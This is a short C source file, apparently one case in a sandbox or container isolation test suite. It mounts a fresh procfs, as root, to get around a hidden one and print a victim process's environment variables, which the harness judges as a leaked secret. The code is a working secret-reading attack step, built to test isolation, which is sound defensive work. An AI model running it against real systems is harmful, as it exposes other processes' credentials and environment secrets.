#include "attack.h"
// A fresh procfs shows processes and settings that the given one hides; root only.
ATTACK(.judge = "secret:victimenv", .needs = "root") {
  char *at = path(arg("work"), "m"), *p;
  mkdir(at, 0755);
  own_mounts();
  if (mount("p", at, "proc", 0, NULL)) return note("mount");
  asprintf(&p, "%s/%ld/environ", at, num("victim"));
  cat(p);
}
